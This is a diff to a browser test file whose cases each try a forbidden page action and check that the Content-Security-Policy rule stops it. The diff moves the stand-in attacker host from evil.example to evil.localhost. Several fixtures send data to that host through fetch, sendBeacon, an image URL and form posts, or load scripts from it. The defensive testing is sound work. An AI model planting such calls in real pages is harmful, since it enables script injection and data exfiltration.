@@ -1,9 +1,10 @@
 import { expect, test } from './fixtures';
 
+// A name of this computer: a browser looks some names up before it asks the rules, and a run of tests sends nothing anywhere.
 /** What a page would do if something foreign ran in it, and the rule that stops it. */
 const FORBIDDEN: [string, string, () => unknown][] = [
   ['a script in the page', 'script-src-elem', () => append('script', { textContent: 'window.foreign = true' })],
-  ['a script from elsewhere', 'script-src-elem', () => append('script', { src: 'https://evil.example/a.js' })],
+  ['a script from elsewhere', 'script-src-elem', () => append('script', { src: 'https://evil.localhost/a.js' })],
   ['a script of text', 'script-src-elem', () => append('script', { src: 'data:text/javascript,window.foreign=true' })],
   [
     'an act in a tag',
@@ -16,18 +17,18 @@ const FORBIDDEN: [string, string, () => unknown][] = [
   [
     'a style from elsewhere',
     'style-src-elem',
-    () => append('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }),
+    () => append('link', { rel: 'stylesheet', href: 'https://evil.localhost/a.css' }),
   ],
-  ['a picture from elsewhere', 'img-src', () => append('img', { src: 'https://evil.example/a.png?secret' })],
-  ['a request to elsewhere', 'connect-src', () => fetch('https://evil.example/').catch(() => undefined)],
-  ['a channel to elsewhere', 'connect-src', () => attempt(() => new WebSocket('wss://evil.example/'))],
-  ['a signal to elsewhere', 'connect-src', () => navigator.sendBeacon('https://evil.example/', 'secret')],
-  ['a sound from elsewhere', 'media-src', () => append('audio', { src: 'https://evil.example/a.mp3' })],
-  ['a plugin', 'object-src', () => append('object', { data: 'https://evil.example/a' })],
-  ['a frame', 'frame-src', () => append('iframe', { src: 'https://evil.example/' })],
+  ['a picture from elsewhere', 'img-src', () => append('img', { src: 'https://evil.localhost/a.png?secret' })],
+  ['a request to elsewhere', 'connect-src', () => fetch('https://evil.localhost/').catch(() => undefined)],
+  ['a channel to elsewhere', 'connect-src', () => attempt(() => new WebSocket('wss://evil.localhost/'))],
+  ['a signal to elsewhere', 'connect-src', () => navigator.sendBeacon('https://evil.localhost/', 'secret')],
+  ['a sound from elsewhere', 'media-src', () => append('audio', { src: 'https://evil.localhost/a.mp3' })],
+  ['a plugin', 'object-src', () => append('object', { data: 'https://evil.localhost/a' })],
+  ['a frame', 'frame-src', () => append('iframe', { src: 'https://evil.localhost/' })],
   ['a worker of text', 'worker-src', () => attempt(() => new Worker('data:text/javascript,1'))],
-  ['another base', 'base-uri', () => append('base', { href: 'https://evil.example/' })],
-  ['a form', 'form-action', () => append('form', { action: 'https://evil.example/', method: 'post' }).submit()],
+  ['another base', 'base-uri', () => append('base', { href: 'https://evil.localhost/' })],
+  ['a form', 'form-action', () => append('form', { action: 'https://evil.localhost/', method: 'post' }).submit()],
 ];
 
 declare function append<K extends keyof HTMLElementTagNameMap>(
